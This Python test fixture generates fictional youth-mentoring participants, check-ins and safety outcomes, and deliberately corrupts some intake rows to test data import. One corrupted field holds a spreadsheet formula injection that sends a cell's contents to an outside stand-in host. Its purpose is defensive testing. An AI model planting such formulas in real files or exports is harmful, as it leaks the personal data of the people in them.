"""The made-up people of the youth program: young people, peer mentors and caregivers, in English and Spanish."""

from __future__ import annotations

from collections.abc import Mapping, Sequence
from datetime import date
from functools import cached_property

from tests.samples.drawing import Draw
from tests.samples.people import Applicant
from tests.samples.scales import point
from tests.samples.sheets import Row, csv_file, xlsx_file
from tests.samples.youth_people import NEEDS, measures, mentee, mentor
from tests.samples.youth_words import WORDS

MENTEES, LATE_MENTEES, MENTORS, LATE_MENTORS = 50, 12, 36, 6


class Youth:
    """See people.Profile."""

    program = "youth-health"
    key = "email"
    days: Sequence[date] = tuple(
        date(2027, month, day) for month, day in ((1, 18), (2, 1), (2, 3), (2, 26), (3, 22), (5, 10), (6, 21), (8, 19))
    )
    tales: Sequence[str] = (
        "poor_fit", "not_safe", "in_danger", "unsure", "burden", "fatigue", "contact", "leaning", "lines", "barrier",
        "time", "quiet", "not_heard", "gone", "moves", "poor_fit", "hard", "fears", "not_meeting", "quiet",
    )  # fmt: skip
    closures: Mapping[str, tuple[int, str]] = {
        "poor_fit": (4, "both said kindly that it isn't right; another mentor is looked for"),
        "gone": (5, "couldn't be reached for ten weeks, by call, message or letter"),
        "moves": (6, "the family moves to another city; they said goodbye at the center"),
    }
    outcomes: Mapping[str, Sequence[str]] = {
        "risk_of_harm": ("called within the hour, met at the clinic, safe plan made; caregiver was told with them",),
        "home_may_not_be_safe": ("spoke alone with them at school; no call home for now; report considered with Luis",),
        "not_always_safe": (
            "called; the way home from school; walks with a friend now",
            "called; safe, wants to talk more",
        ),
        "danger_words": ("called at once; a school counselor is involved, with their yes",),
        "something_hard": ("called; it was good to have said it", "left word that I read it, they'll call back"),
        "mentor_fears_harm": ("met mentor and mentee the same day",),
        "mentor_unsure": ("talked it through with the mentor; keeps an eye on it",),
        "caregiver_fears_harm": ("called back within the hour; urgent visit arranged",),
        "caregiver_a_little_worried": (
            "called; sleep and school, not danger",
            "called; an appointment at the clinic is made",
        ),
        "mentor_burden": ("pause of four weeks agreed, mentee told kindly",),
        "compassion_fatigue": ("two extra talks, no new mentee for now",),
        "more_than_planned": ("both know the plan again: once a week, and who else to call",),
        "leaning_on_one": ("looked together for a second person: an aunt, and Thursday evenings",),
        "outside_the_lines": ("went through the lines again; a phone for the program was lent",),
        "barrier": ("they use both languages now", "talked about what silence means to each of them"),
        "cannot_get_there": ("bus cards sent, and Saturdays instead",),
        "not_meeting": ("exams; they meet again from next week", "called both; moved to video"),
        "poor_fit": ("called both; ends kindly", "called both; four more weeks, then we ask again"),
        "not_heard": ("mentor and supervisor practised it; goes better",),
        "quiet_pair": (
            "busy with exams, all is well",
            "left a message; a friend says they're okay",
            "called, phone was off",
        ),
    }
    decided: Sequence[tuple[str, str, str]] = ()

    def applicants(self) -> Sequence[Applicant]:
        return self._everyone

    @cached_property
    def _everyone(self) -> tuple[Applicant, ...]:
        mentees = [mentee(place, int(place > MENTEES)) for place in range(1, MENTEES + LATE_MENTEES + 1)]
        mentors = [mentor(place, int(place > MENTORS)) for place in range(1, MENTORS + LATE_MENTORS + 1)]
        return (*mentees, *mentors)

    def survey(self) -> Sequence[Row]:
        return tuple(_surveyed(Draw("youth survey", place)) for place in range(72))

    def spoil(self, wave: int, rows: list[dict[str, str]]) -> list[dict[str, str]]:
        if wave != 0 or not rows:
            return rows
        like = next(row for row in rows if row["form"] == "intake-mentee")
        wrong = [
            {**like, "email": "someone.new@mail.example", "age": "230"},
            {**like, "email": "call me instead"},
            {**like, "email": ""},
            {**like, "email": "tia.rosa@mail.example", "form": "intake-aunt"},
            {**like, "email": "short.form@mail.example", "phone": ""},
            dict.fromkeys(like, ""),
        ]
        mentees = [row for row in rows if row["form"] == "intake-mentee"]
        later = mentees[11] | {"email": f" {mentees[11]['email'].upper()} ", "submitted": "2027-01-17 22:41"}
        mentees[4]["interests"] += "; parkour"
        mentees[7]["heard_of"] = "the bus stop, I think"
        mentees[9]["preferred_name"] = f"  {mentees[9]['preferred_name']} "
        mentees[15]["school_class"] = '=HYPERLINK("https://win.example/?k="&B2,"my school")'
        return [*rows[:18], *wrong[:3], *rows[18:60], *wrong[3:], *rows[60:], later]

    def check_in(self, person: Applicant, role: str, form: str, tale: str, number: int) -> Row:
        draw = person.drawing(role, form, number)
        if role == "caregiver":
            row = {
                "caregiver_sees": draw.weighted({"better": 4.0, "same": 5, "worse": 1, "cannot_say": 1}),
                "caregiver_safe": draw.weighted({"no_worry": 16.0, "a_little": 1}),
            }
            if "monthly" in form and number == 3 and person.drawing("very").chance(0.08):
                row["caregiver_safe"] = "very"
            return row | ({"caregiver_wish": draw.one(WORDS["wish"][person.language])} if draw.chance(0.2) else {})
        is_depth, is_monthly = "in_depth" in form, "monthly" in form
        row = {
            "contacts_week": draw.weighted({"1": 8.0, "2": 4, "3": 1}),
            "fit": draw.weighted({"good": 12.0, "deciding": 2}),
        }
        if role == "mentee":
            row |= {"safe": "safe", "felt_heard": point(draw, 0.75, 2, 5, 0.22)}
            row |= {"only_one": point(draw, 0.35, 1, 4, 0.25)} if is_monthly else {}
        else:
            row |= {"safety_worry": "no_worry", "energy": point(draw, 0.5, 2, 5, 0.2)}
        if is_depth:
            row["closer_to_goal"] = point(draw, 0.35 + 0.12 * number, 1, 5, 0.2)
            row |= {"good_moment": draw.one(WORDS["moment"][person.language])} if draw.chance(0.4) else {}
        else:
            row["getting_in_the_way"] = draw.weighted({"nothing": 12.0, "time": 1, "tech": 0.4})
            if role == "mentor":
                row |= {"takes_it_home": point(draw, 0.3, 1, 3, 0.25), "outside_the_lines": "none_of_these"}
        if draw.chance(0.012):
            row["anything_hard"] = draw.one(WORDS["hard"][person.language])
        return row | _tale(
            tale, role, number, "depth" if is_depth else "monthly" if is_monthly else "first", person.language
        )

    def measure(self, person: Applicant, months: int, tells: bool) -> Row:
        draw = person.drawing("measure", months)
        row = measures(draw, person.role, person.language, person.share_after(months))
        if person.role == "mentee":
            row["understood"] = point(draw, 0.75, 1, 5, 0.2)
        if tells and draw.chance(0.75):
            kind, question = ("changed", "story_changed") if person.role == "mentee" else ("gave", "story_mentor")
            row[question] = draw.one(WORDS[kind][person.language])
            if draw.chance(0.5):
                row["story_moment"] = draw.one(WORDS["moment"][person.language])
            row["quotes_ok"] = "yes" if draw.chance(0.5) else "no"
        return row

    def goals(self, person: Applicant, number: int) -> str:
        kind = "goal" if person.role == "mentee" else "mentor_goal"
        return person.drawing("goal", number).one(WORDS[kind][person.language])

    def feedback(self, person: Applicant, session: str) -> Row:
        draw = person.drawing("feedback", session)
        words = draw.one(WORDS["session"][person.language]) if draw.chance(0.4) else ""
        return {"session_good": point(draw, 0.8, 1, 5, 0.2), "session_change": words}

    def leaves(self, person: Applicant, tale: str) -> Row:
        draw = person.drawing("exit", tale)
        return {
            "exit_reason": {"poor_fit": "not_right", "gone": "faded", "moves": "life_changed"}.get(tale, "as_planned"),
            "tell_a_friend": point(draw, 0.5 if tale in ("poor_fit", "gone") else 0.85, 1, 5, 0.15),
            "exit_fair": point(draw, 0.9, 3, 5, 0.2),
            "exit_missing": draw.one(WORDS["missing"][person.language]),
        }

    def file(self, name: str, wave: int, rows: Sequence[Row]) -> tuple[str, bytes]:
        if name == "intake" and wave == 1:
            return "intake.xlsx", xlsx_file(rows)
        return f"{name}.csv", csv_file(rows)


def _tale(tale: str, role: str, number: int, kind: str, language: str) -> dict[str, str]:
    """What is different in the answers of somebody to whom this happens. kind: first, monthly or depth."""
    match tale, role, kind:
        case "poor_fit", _, _:
            return {"fit": "not_good"} | ({"felt_heard": "3"} if role == "mentee" else {})
        case "not_safe", "mentee", "monthly" if number == 1:
            return {"safe": "not_always"}
        case "in_danger", "mentee", "monthly" if number == 2:
            words = {"en": "I'm scared to go home on Fridays.", "es": "Me da miedo volver a casa los viernes."}
            return {"safe": "in_danger", "anything_hard": words[language]}
        case "unsure", "mentor", "monthly" if number == 2:
            return {"safety_worry": "unsure"}
        case "fears", "mentor", "monthly" if number == 6:
            return {"safety_worry": "worried_now"}
        case "burden", "mentor", "monthly" if number in (2, 3):
            return {"energy": "2"}
        case "fatigue", "mentor", "monthly" if number in (1, 2):
            return {"takes_it_home": "4"}
        case "contact", _, "monthly" if number in (1, 2):
            return {"contacts_week": "6"}
        case "leaning", "mentee", "monthly" if number in (2, 3):
            return {"only_one": "5"}
        case "lines", "mentor", "monthly" if number == 2:
            return {"outside_the_lines": "at_night; private_account"}
        case "barrier", _, "first":
            return {"getting_in_the_way": "words; ways"}
        case "time", _, "monthly" if number in (2, 3):
            return {"getting_in_the_way": "time"}
        case "not_heard", "mentee", "monthly" if number in (1, 2):
            return {"felt_heard": "2"}
        case "hard", "mentee", "first":
            return {"anything_hard": WORDS["hard"][language][0]}
        case "not_meeting", _, "monthly" if number == 3:
            return {"contacts_week": "0"}
    return {}


def _surveyed(draw: Draw) -> Row:
    language = draw.one(("en", "en", "es"))
    stops = ("not_bad_enough", "family_finds_out", "not_understood", "cost", "language", "far")
    return {
        "survey_age": draw.weighted({"from_14": 6.0, "from_18": 5, "from_22": 2, "under_14": 1, "older": 0.5}),
        "survey_weighs": "; ".join(draw.many(NEEDS, draw.whole(1, 3))),
        "survey_talks_to": "; ".join(draw.several(("friend", "family_member", "adult", "online"), draw.whole(1, 2)))
        if draw.chance(0.7)
        else "nobody",
        "survey_stops": "; ".join(draw.several(stops, draw.whole(1, 3))) if draw.chance(0.9) else "nothing",
        "survey_would_talk": str(draw.whole(2, 5)),
        "survey_where": draw.weighted({"center": 3.0, "school": 2, "library": 4, "video": 3}),
        "survey_words": draw.one(WORDS["survey"][language]),
    }
